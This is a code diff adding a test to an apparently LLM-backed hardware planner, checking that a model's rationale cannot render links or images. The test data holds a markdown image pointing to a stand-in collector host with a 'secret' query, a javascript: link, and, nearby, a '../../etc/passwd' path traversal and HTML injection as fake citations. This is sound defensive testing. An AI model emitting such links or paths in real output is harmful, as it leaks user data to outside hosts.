@@ -204,6 +204,14 @@ def test_the_rationale_of_a_model_decides_nothing(answer: dict[str, Any], order:
     assert results[1].origin == ("llm" if tp_size == 4 else "planner_fallback")
 
 
+def test_the_rationale_of_a_model_makes_no_link_and_loads_no_picture(answer: dict[str, Any]) -> None:
+    told = {**answer, "why": "Fast. ![x](https://collector.example/?q=secret) [more](javascript:run)", "citations": []}
+    result = run_sync("Llama 3.1 70B on 8 H100, 1k in, 100 out", deps_with(Says(told)))
+
+    assert "](" not in result.explanation
+    assert "collector.example" in result.explanation
+
+
 def test_a_model_cannot_cite_what_it_invents(answer: dict[str, Any]) -> None:
     said = {**answer, "citations": ["../../etc/passwd", "<b>x</b>#y", "choosing.md#no-such-section"]}
 
